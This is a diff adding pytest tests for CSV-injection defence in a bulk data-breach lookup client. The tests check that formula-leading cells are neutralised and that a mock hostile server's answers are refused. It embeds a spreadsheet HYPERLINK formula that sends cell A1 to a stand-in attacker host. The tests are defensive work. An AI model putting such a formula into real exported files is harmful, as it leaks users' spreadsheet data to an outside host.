@@ -9,6 +9,7 @@ number of answer bytes.
 
 from __future__ import annotations
 
+import asyncio
 import csv
 import os
 import re
@@ -22,10 +23,13 @@ from collections.abc import Iterator
 from dataclasses import dataclass, field
 from pathlib import Path
 
+import orjson
 import pytest
+from aiohttp import web
 from conftest import Breach, agrees_with_ground_truth
 
 from client.bulk import RESULT_COLUMNS, main
+from client.cells import FORMULA_TRIGGERS, neutralise_cell, original_cell
 from indexer.core.records import DATA_CLASSES
 from service.resources.apikeys import KeyStore
 
@@ -472,3 +476,105 @@ def test_long_files_go_as_several_requests(
     assert batches() - before >= 5
     assert_results(read_results(tmp_path / "out.csv"), [m["ref"] for m in members],
                    breach.expected())
+
+
+# ------------------------------------------------------------------ CSV injection (14/7)
+
+
+def test_refs_a_spreadsheet_would_run_are_neutralised(
+    service: Served, breach: Breach, key_file: Path, tmp_path: Path,
+    capsys: pytest.CaptureFixture[str],
+) -> None:
+    # Issue 14 (7): cells starting with = + - @ tab or CR went into RESULTS.csv as they
+    # were, and a spreadsheet runs them (OWASP, CSV injection).
+    member = next(m for m in breach.members() if m["nir"])
+    # (A tab or CR before a ref is blank the reader strips; neutralise_cell covers them.)
+    refs = ['=HYPERLINK("http://x.invalid","y")', "+33", "-2", "@SUM(A1)", "plain", "'quoted"]
+    assert [neutralise_cell(c) for c in ("\tx", "\rx")] == ["'\tx", "'\rx"]
+    path = tmp_path / "members.csv"
+    with path.open("w", encoding="utf-8", newline="") as stream:
+        writer = csv.writer(stream, delimiter=";")
+        writer.writerow(["ref", "nir", "birth_date"])
+        writer.writerows([ref, member["nir"], member["birth_date"]] for ref in refs)
+    out = tmp_path / "out.csv"
+    status, err = run_client(capsys, path, service.url, out, key_file)
+    assert status == 0, err
+    rows = read_results(out)
+    assert [row["ref"] for row in rows] == [
+        "'" + ref if ref[0] in "=+-@\t\r" else ref for ref in refs]
+    for row in rows:
+        assert not any(cell.startswith(FORMULA_TRIGGERS) for cell in row.values())
+    assert [original_cell(row["ref"]) for row in rows] == refs
+
+
+class HostileService:
+    """An HTTP server that answers every bulk line with what it is told to."""
+
+    def __init__(self, answer: dict[str, object]) -> None:
+        self.answer = answer
+        self.loop = asyncio.new_event_loop()
+        self.port = 0
+        started = threading.Event()
+        self.thread = threading.Thread(target=self._run, args=(started,), daemon=True)
+        self.thread.start()
+        assert started.wait(30)
+
+    def _run(self, started: threading.Event) -> None:
+        asyncio.set_event_loop(self.loop)
+
+        async def batch(request: web.Request) -> web.Response:
+            lines = [line for line in (await request.read()).split(b"\n") if line.strip()]
+            body = b"".join(orjson.dumps({"line": i, "ref": None, **self.answer}) + b"\n"
+                            for i in range(1, len(lines) + 1))
+            body += orjson.dumps({"summary": {"lines": len(lines), "found": 0,
+                                              "errors": 0}}) + b"\n"
+            return web.Response(body=body, content_type="application/x-ndjson")
+
+        app = web.Application()
+        app.router.add_post("/v1/check/batch", batch)
+        self.runner = web.AppRunner(app)
+        self.loop.run_until_complete(self.runner.setup())
+        site = web.TCPSite(self.runner, "127.0.0.1", 0)
+        self.loop.run_until_complete(site.start())
+        self.port = site._server.sockets[0].getsockname()[1]  # type: ignore[union-attr]
+        started.set()
+        self.loop.run_forever()
+
+    def stop(self) -> None:
+        asyncio.run_coroutine_threadsafe(self.runner.cleanup(), self.loop).result(30)
+        self.loop.call_soon_threadsafe(self.loop.stop)
+        self.thread.join(30)
+        self.loop.close()
+
+
+_FORMULA = '=HYPERLINK("http://attacker.invalid/?"&A1,"Details")'
+
+
+@pytest.mark.parametrize("answer", [
+    {"found": True, "match": _FORMULA, "sources": []},
+    {"found": True, "match": "strong", "sources": [{"id": _FORMULA, "exposed": ["nir"]}]},
+    {"found": True, "match": "strong", "sources": [{"id": "a-2024", "exposed": [_FORMULA]}]},
+    {"error": {"field": None, "code": _FORMULA, "message": "x"}},
+    {"error": {"field": _FORMULA, "code": "invalid_nir", "message": "x"}},
+    {"found": False, "match": _FORMULA, "sources": []},
+], ids=["match", "source", "exposed", "code", "field", "not-found-match"])
+def test_values_outside_the_vocabulary_from_a_hostile_server_are_refused(
+    breach: Breach, tmp_path: Path, capsys: pytest.CaptureFixture[str],
+    answer: dict[str, object],
+) -> None:
+    member = next(m for m in breach.members() if m["nir"])
+    path = tmp_path / "members.csv"
+    path.write_text(f"ref;nir;birth_date\nm-1;{member['nir']};{member['birth_date']}\n",
+                    encoding="utf-8")
+    key = tmp_path / "key"
+    key.write_text("exk_anything")
+    hostile = HostileService(answer)
+    try:
+        out = tmp_path / "out.csv"
+        status, err = run_client(capsys, path, f"http://127.0.0.1:{hostile.port}", out, key)
+    finally:
+        hostile.stop()
+    assert status != 0
+    assert "vocabulary" in err
+    assert "HYPERLINK" not in err
+    assert not out.exists() or "HYPERLINK" not in out.read_text(encoding="utf-8")
